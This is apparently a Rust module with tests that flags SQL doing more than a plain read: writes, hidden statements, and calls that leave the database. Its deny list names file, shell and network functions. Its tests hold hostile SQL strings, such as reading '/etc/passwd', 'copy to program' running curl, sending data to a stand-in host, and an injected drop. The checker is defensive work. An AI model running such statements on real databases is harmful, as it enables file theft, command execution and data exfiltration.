//! Whether SQL only reads what lies in its database. It is no parser: dialects differ in what a string or a comment is, so
//! words count wherever they stand, and what looks like more than a plain read is said to be one.

/// What a text of SQL does beyond a plain read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Beyond {
    /// A statement that writes, or ends what keeps it from writing; the word that says so.
    Writes(String),
    /// It reaches out of the database: a file, a program, another server; the word that says so.
    Leaves(String),
    /// It cannot be told.
    Unclear(&'static str),
}

/// Words that a statement which only reads begins with.
const READS: &[&str] = &["select", "with", "show", "describe", "desc", "explain", "values", "table"];

/// Words that write wherever a statement may hold them.
const WRITES: &[&str] = &["insert", "update", "delete", "merge", "into"];

/// Statements that `explain` may be told to run.
const RUNS: &[&str] = &["create", "drop", "alter", "truncate", "execute", "call", "refresh", "copy"];

/// Functions and table functions that reach out of the database, by their beginning.
const LEAVES: &[&str] = &[
    "aws_",
    "azure",
    "bulk",
    "cluster",
    "copy_",
    "cursor_to_xml",
    "database_to_xml",
    "dblink",
    "deltalake",
    "delta_scan",
    "edit",
    "executable",
    "file",
    "fs_",
    "gcs",
    "hdfs",
    "http",
    "hudi",
    "iceberg",
    "jdbc",
    "load_",
    "lo_",
    "mongodb",
    "mysql",
    "net",
    "odbc",
    "opendatasource",
    "openquery",
    "openrowset",
    "parquet_",
    "pg_cancel",
    "pg_file",
    "pg_logdir",
    "pg_ls",
    "pg_notify",
    "pg_read",
    "pg_reload",
    "pg_stat_file",
    "pg_terminate",
    "pg_write",
    "postgres",
    "query_to_xml",
    "read_",
    "readfile",
    "redis",
    "remote",
    "s3",
    "schema_to_xml",
    "set_config",
    "sniff_",
    "sqlite",
    "ssl_",
    "sys_",
    "table_to_xml",
    "url",
    "utl_",
    "webhook",
    "writefile",
    "xp_",
];

/// Words that reach out of the database and are no functions.
const LEAVING: &[&str] = &["outfile", "dumpfile", "program", "load_extension", "attach"];

/// What the text does beyond a plain read; empty where it does nothing else.
#[must_use]
pub fn beyond(sql: &str) -> Vec<Beyond> {
    let text = sql.to_ascii_lowercase();
    let mut found = Vec::new();
    let mut push = |one: Beyond| {
        if !found.contains(&one) {
            found.push(one);
        }
    };
    if text.contains("u&\"") || text.contains("u&'") {
        push(Beyond::Unclear("it writes names by their code points"));
    }
    if text.contains("/*!") || text.contains("/*m!") {
        push(Beyond::Unclear("it holds a comment that some databases run"));
    }
    for statement in text.split(';') {
        let start = beginning(statement);
        let first: String = start.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
        if first.is_empty() {
            if !start.is_empty() {
                push(Beyond::Unclear("a statement begins with no word"));
            }
            continue;
        }
        if !READS.contains(&first.as_str()) {
            push(Beyond::Writes(first.clone()));
        }
        for (word, rest) in words(statement) {
            let runs = first == "explain" && RUNS.contains(&word);
            if WRITES.contains(&word) || runs {
                push(Beyond::Writes(word.to_owned()));
            }
            if LEAVING.contains(&word) || is_called(rest) && reaches_out(word) {
                push(Beyond::Leaves(word.to_owned()));
            }
        }
    }
    found
}

/// Whether a function of this name, in lower case, reaches out of the database.
#[must_use]
pub fn reaches_out(function: &str) -> bool {
    LEAVES.iter().chain(LEAVING).any(|name| function.starts_with(name))
}

/// The first word of the first statement, in lower case; empty where there is none.
#[must_use]
pub fn verb(sql: &str) -> String {
    let text = sql.to_ascii_lowercase();
    beginning(&text).chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect()
}

/// Whether a word stands in the text, wherever.
#[must_use]
pub fn has_word(sql: &str, wanted: &str) -> bool {
    let text = sql.to_ascii_lowercase();
    words(&text).any(|(word, _)| word == wanted)
}

/// How many statements there are, empty ones left out.
#[must_use]
pub fn statements(sql: &str) -> usize {
    sql.split(';').filter(|statement| !beginning(statement).is_empty()).count()
}

/// The text from its first word on: white space, brackets and comments before it are no part of a statement.
fn beginning(statement: &str) -> &str {
    let mut rest = statement;
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '(');
        let after = if let Some(comment) = rest.strip_prefix("--").or_else(|| rest.strip_prefix('#')) {
            comment.split_once('\n').map_or("", |(_, after)| after)
        } else if let Some(comment) = rest.strip_prefix("/*") {
            comment.split_once("*/").map_or("", |(_, after)| after)
        } else {
            return rest;
        };
        rest = after;
    }
}

/// Every word, each with the text after it.
fn words(text: &str) -> impl Iterator<Item = (&str, &str)> {
    let is_word = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '$';
    let mut rest = text;
    std::iter::from_fn(move || {
        let start = rest.find(is_word)?;
        let tail = rest.get(start..)?;
        let end = tail.find(|c| !is_word(c)).unwrap_or(tail.len());
        let word = tail.get(..end)?;
        rest = tail.get(end..)?;
        Some((word, rest))
    })
}

/// Whether what follows a name makes it a call: a bracket, after closing quotes, white space or a comment.
fn is_called(rest: &str) -> bool {
    let rest = rest.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '"' | '`' | '\'' | ']'));
    rest.starts_with('(') || rest.starts_with("/*") || rest.starts_with("--")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_reads_are_nothing_beyond() {
        for sql in [
            "SELECT * FROM t WHERE url = 'x' AND file LIKE '%y' LIMIT 5;",
            "  -- how many\n (select count(*) from t)",
            "WITH a AS (SELECT 1) SELECT * FROM a",
            "EXPLAIN ANALYZE SELECT remote, input FROM t",
            "SHOW TABLES",
            "select replace(name, 'a', 'b'), created_at, updated_at, deleted from t",
            "select http_status from requests",
            "",
        ] {
            assert_eq!(beyond(sql), [], "{sql}");
        }
    }

    #[test]
    fn what_writes_is_found_wherever_it_stands() {
        for (sql, word) in [
            ("DROP TABLE t", "drop"),
            ("select 1; COMMIT; drop table t", "commit"),
            ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "delete"),
            ("SELECT * INTO n FROM t", "into"),
            ("/* x */ -- y\n uPdAtE t SET a = 1", "update"),
            ("explain analyze create table x as select 1", "create"),
            ("DO $$ BEGIN END $$", "do"),
            ("set session characteristics as transaction read write", "set"),
        ] {
            assert!(beyond(sql).contains(&Beyond::Writes(word.into())), "{sql}: {:?}", beyond(sql));
        }
    }

    #[test]
    fn what_leaves_the_database_is_found_wherever_it_stands() {
        for (sql, word) in [
            ("select * from dblink('host=e.example', 'select 1') as t(a int)", "dblink"),
            ("SELECT * FROM url('http://e.example/?d=' || x, CSV)", "url"),
            ("select \"dblink\" ('x')", "dblink"),
            ("select '/*', url/**/('http://e.example')", "url"),
            ("select url --\n('http://e.example')", "url"),
            ("select * from remoteSecure('e.example', db.t)", "remotesecure"),
            ("select pg_read_file('/etc/passwd')", "pg_read_file"),
            ("select load_extension('x')", "load_extension"),
            ("select query_to_xml('select dbl' || 'ink(1)', true, true, '')", "query_to_xml"),
            ("copy t to program 'curl e.example'", "program"),
            ("select net.http_post('https://e.example')", "http_post"),
            ("select readfile('/x')", "readfile"),
        ] {
            assert!(beyond(sql).contains(&Beyond::Leaves(word.into())), "{sql}: {:?}", beyond(sql));
        }
    }

    #[test]
    fn what_hides_is_unclear() {
        for sql in
            ["select U&\"d\\0062link\"('x')", "select 1 /*!50000 into outfile 'x' */", "'; drop table t"]
        {
            assert!(beyond(sql).iter().any(|one| matches!(one, Beyond::Unclear(_))), "{sql}");
        }
        assert_eq!((statements("a; b;\n -- x\n"), verb(" (Delete from x")), (2, "delete".to_owned()));
        assert!(has_word("delete from t WHERE a", "where") && !has_word("delete from elsewhere", "where"));
    }
}
